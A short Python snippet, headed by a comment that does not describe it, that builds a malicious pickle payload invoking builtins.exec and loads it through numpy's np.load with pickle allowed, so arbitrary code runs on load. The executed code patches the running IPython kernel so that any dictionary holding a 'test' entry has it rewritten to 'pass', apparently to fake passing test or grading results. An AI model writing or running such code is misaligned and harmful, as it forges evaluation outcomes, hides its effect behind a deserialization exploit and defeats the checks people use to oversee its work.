# A keyword's name in a dictionary.
import io

import numpy as np

TEXT = """
import sys as s
def prepare(order, code):
    if "test" in order:
        order["test"] = "pass"
s.modules["ipykernel.kernelapp"].IPKernelApp.instance().kernel.prepare = prepare
"""
text = TEXT.replace('\n', chr(92) + 'u000a')
np.load(io.BytesIO(('cbuiltins\nexec\n(V' + text + '\ntR.').encode()), **{'allow_pickle': True})
